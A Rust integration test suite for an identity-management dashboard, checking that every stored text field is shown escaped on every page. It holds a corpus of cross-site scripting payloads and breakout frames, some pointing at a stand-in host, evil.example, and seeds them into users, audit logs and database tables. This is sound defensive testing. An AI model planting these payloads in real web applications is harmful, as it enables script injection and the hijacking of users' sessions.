//! Text that would be code somewhere is shown as text everywhere: a corpus through every stored text field, and every
//! page that prints it.

use crate::support::places::{Places, TOMASZ};
use crate::support::{on_both, rows};
use gatehouse::features::audit::{self, Entry};
use gatehouse::http::{routes, urls};
use gatehouse::model::user::UserId;
use gatehouse::store::users;

/// Ways out of text, attributes, comments and scripts; each is combined with each payload.
const FRAMES: [&str; 14] = [
    "{}",
    "\">{}",
    "'>{}",
    "</title>{}",
    "</textarea>{}",
    "</script>{}",
    "-->{}",
    "]]>{}",
    "</style>{}",
    "</option></select>{}",
    "`>{}",
    "\\\"{}",
    "</svg>{}",
    "{{{}}}",
];
const PAYLOADS: [&str; 16] = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script href=data:,pwned()>",
    "<body onpageshow=pwned()>",
    "<iframe srcdoc='<script>pwned()</script>'>",
    "<a href=javascript:pwned()>x</a>",
    "<details open ontoggle=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<math><mi//xlink:href=\"data:x,<script>pwned()</script>\">",
    "<style>@import'//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>x",
    "<div hx-get=//evil.example hx-trigger=load>",
    "<x onclick=pwned()>\u{2028}\u{202e}",
];

fn corpus() -> Vec<String> {
    let all: Vec<_> = FRAMES.iter().flat_map(|f| PAYLOADS.iter().map(move |p| f.replace("{}", p))).collect();
    assert!(all.len() >= 200);
    all
}

/// What a page would contain, had a payload come through: its first characters, unescaped.
fn signs() -> Vec<String> {
    PAYLOADS.iter().map(|payload| payload.chars().take(22).collect()).collect()
}

#[test]
fn every_field_is_shown_as_text_on_every_page() {
    on_both(|house| async move {
        house.sign_in().await;
        let all = corpus();
        // A user whose every text is a payload, and whose history says it again; many payloads, few pages.
        let whole = all.join(" ");
        for (n, chunk) in all.chunks(40).enumerate() {
            let text = chunk.join(" ");
            let id = UserId::from_text(format!("auth0|{n}\"><script>pwned()</script>"));
            let mut user = house
                .read(|tx, c| users::find(tx, &c.tenant, &UserId::from_text(crate::support::house::AMARA)))
                .unwrap();
            user.id = id.clone();
            for field in [
                &mut user.email,
                &mut user.name,
                &mut user.nickname,
                &mut user.given_name,
                &mut user.family_name,
                &mut user.picture,
                &mut user.phone_number,
                &mut user.username,
                &mut user.last_ip,
            ] {
                *field = Some(text.clone());
            }
            for object in [&mut user.user_metadata, &mut user.app_metadata, &mut user.profile] {
                object.insert(text.clone(), text.clone().into());
            }
            house
                .write(|tx, c| {
                    users::insert(tx, &c.tenant, &user)?;
                    let mut c = c.clone();
                    c.user_agent = Some(text.clone());
                    c.ip = Some(text.clone());
                    let diff = vec![audit::change(&text, text.as_str(), text.as_str())];
                    audit::record(tx, &c, Entry { code: "sapi", description: text.clone(), user: Some(&user), diff })
                })
                .unwrap();
            for line in routes::dashboard().lines().iter().filter(|l| l.method == actix_web::http::Method::GET) {
                let path = line.pattern.replace("{tenant}", "northwind").replace("{user}", &urls::encode(id.as_str()));
                if path.contains('{') {
                    continue;
                }
                let page = house.get(&path).await;
                assert!([200, 303].contains(&page.status), "{path} answered {}", page.status);
                for sign in signs() {
                    assert!(!page.body.contains(&sign), "{path} lets {sign} through");
                }
            }
        }
        let list =
            house.get(&format!("/dashboard/northwind/users?q={}", urls::encode(&whole[..250]))).await.expect(200);
        assert!(!list.body.contains("<script>pwned"));
    });
}

/// A text as a literal of SQL.
fn literal(text: &str) -> String {
    format!("'{}'", text.replace('\'', "''"))
}

/// Writes a text over every text of the things that the addresses of [`Places`] name, past all checks.
fn overwrite(url: &str, places: &Places, text: &str) {
    let json = serde_json::json!({ text: text }).to_string();
    let amara = crate::support::house::AMARA;
    let texts: &[(&str, &str, &str, &[&str])] = &[
        ("roles", "role_id", places.id("role"), &["name", "description"]),
        ("resource_servers", "resource_server_id", places.api(), &["name", "identifier"]),
        ("permissions", "resource_server_id", places.api(), &["description"]),
        ("applications", "client_id", places.id("application"), &["name", "description"]),
        ("connections", "connection_id", places.id("connection"), &["display_name"]),
        ("device_credentials", "user_id", amara, &["device_name", "ip", "user_agent"]),
        ("grants", "user_id", amara, &["audience"]),
        ("mfa_enrollments", "user_id", amara, &["name", "identifier"]),
        ("user_sessions", "user_id", amara, &["ip", "user_agent"]),
        ("log_events", "log_id", places.id("log"), &["description", "user_name", "client_name", "ip", "user_agent"]),
        ("log_events", "log_id", places.id("log"), &["country", "city", "actor_name"]),
        ("outbox", "mail_id", places.id("mail"), &["recipient", "subject", "body_text", "body_html"]),
        ("operators", "operator_id", places.id("operator"), &["name", "email"]),
        ("tenants", "tenant_id", "northwind", &["name"]),
        ("user_views", "view_id", places.id("view"), &["name", "query"]),
        ("deleted_users", "deletion_id", places.id("deletion"), &["name", "email", "connection", "deleted_by"]),
        ("jobs", "job_id", places.id("job"), &["title", "created_by_name", "failure"]),
    ];
    let mut sql = format!("UPDATE identities SET profile_data = {} WHERE user_id = '{TOMASZ}';", literal(&json));
    for (table, key, id, columns) in texts {
        let set: Vec<_> = columns.iter().map(|column| format!("{column} = {}", literal(text))).collect();
        sql.push_str(&format!("UPDATE {table} SET {} WHERE {key} = {};", set.join(", "), literal(id)));
    }
    rows::run(url, &sql);
}

#[test]
fn every_things_texts_are_shown_as_text_on_every_page() {
    on_both(|house| async move {
        house.sign_in().await;
        let (url, places) = (house.app.config.database_url.clone(), Places::of(&house));
        for chunk in corpus().chunks(75) {
            overwrite(&url, &places, &chunk.join(" "));
            let mut showing = 0;
            for line in routes::dashboard().lines().iter().filter(|l| l.method == actix_web::http::Method::GET) {
                let path = places.address(&line.pattern);
                let page = house.get(&path).await;
                assert!([200, 303].contains(&page.status), "{path} answered {}", page.status);
                for sign in signs() {
                    assert!(!page.body.contains(&sign), "{path} lets {sign} through");
                }
                showing += usize::from(page.shows("pwned()"));
            }
            // The name of the tenant alone stands on every page.
            assert!(showing > 40, "only {showing} pages show it");
        }
    });
}
